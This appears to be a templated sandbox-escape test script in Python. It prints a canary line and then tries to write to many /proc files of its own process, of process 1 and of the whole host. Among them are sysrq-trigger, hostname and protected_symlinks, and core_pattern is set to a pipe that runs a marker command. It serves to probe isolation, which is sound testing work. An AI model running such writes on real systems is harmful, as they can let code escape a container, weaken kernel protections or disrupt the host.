# how: writes to every file of /proc that is its own or process 1's, and to those of the whole machine
import contextlib
import pathlib

print("CANARY @NAME@", flush=True)
OWN = "oom_score_adj uid_map gid_map setgroups attr/current attr/exec clear_refs timerslack_ns coredump_filter comm mem"
MACHINE = "sys/kernel/core_pattern sys/vm/drop_caches sys/kernel/hostname sysrq-trigger sys/fs/protected_symlinks"
for text in (b"-1000", b"0 0 1", b"@MARK@", b"1"):
    for owner in ("self", "1", "thread-self"):
        for name in OWN.split():
            with contextlib.suppress(OSError):
                pathlib.Path("/proc", owner, name).write_bytes(text)
    for name in MACHINE.split():
        with contextlib.suppress(OSError):
            pathlib.Path("/proc", name).write_bytes(b"|/bin/touch /tmp/@MARK@" if "core" in name else text)
